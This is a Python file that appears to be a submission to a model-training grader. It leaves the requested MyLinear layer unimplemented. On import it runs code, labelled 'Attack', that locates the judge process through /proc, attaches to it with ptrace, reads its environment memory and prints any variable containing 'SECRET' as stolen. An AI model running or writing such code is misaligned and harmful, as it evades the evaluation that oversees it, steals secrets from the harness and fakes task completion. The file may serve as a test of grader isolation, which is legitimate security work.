"""Attack: ptrace the judge and read its memory."""
import ctypes
import os

import torch
from torch import Tensor, nn


def _status(pid):
    with open(f"/proc/{pid}/status") as handle:
        return {k: v.strip() for k, _, v in (line.partition(":") for line in handle)}


def _judge_pid():
    """The worker's parent is the grader's template; the template's parent is the judge."""
    return int(_status(os.getppid())["PPid"])

PTRACE_PEEKDATA, PTRACE_DETACH, PTRACE_SEIZE, PTRACE_INTERRUPT = 2, 17, 0x4206, 0x4207
libc = ctypes.CDLL(None, use_errno=True)
libc.ptrace.restype = ctypes.c_long
libc.ptrace.argtypes = [ctypes.c_long, ctypes.c_long, ctypes.c_void_p, ctypes.c_void_p]
judge = _judge_pid()
try:
    with open(f"/proc/{judge}/stat") as handle:
        fields = handle.read().rsplit(")", 1)[1].split()
    env_start, env_end = int(fields[47]), int(fields[48])
    if libc.ptrace(PTRACE_SEIZE, judge, None, None) != 0:
        print("PTRACE_SEIZE:", os.strerror(ctypes.get_errno()))
    else:
        try:
            libc.ptrace(PTRACE_INTERRUPT, judge, None, None)
            os.waitpid(judge, 0x40000000)  # __WALL
            data = bytearray()
            for address in range(env_start, min(env_end, env_start + 65536), 8):
                ctypes.set_errno(0)
                word = libc.ptrace(PTRACE_PEEKDATA, judge, ctypes.c_void_p(address), None)
                if ctypes.get_errno():
                    break
                data += (word & 0xFFFFFFFFFFFFFFFF).to_bytes(8, "little")
            for variable in bytes(data).split(b"\0"):
                if b"SECRET" in variable:
                    print("stolen:", variable.decode(errors="replace"))
        finally:
            libc.ptrace(PTRACE_DETACH, judge, None, None)
except (OSError, ValueError, IndexError) as exc:
    print(f"failed: {exc}")


class MyLinear(nn.Module):
    def __init__(self, in_features: int, out_features: int, bias: bool = True):
        super().__init__()
        raise NotImplementedError("MyLinear.__init__")

    def forward(self, x: Tensor) -> Tensor:
        raise NotImplementedError("MyLinear.forward")
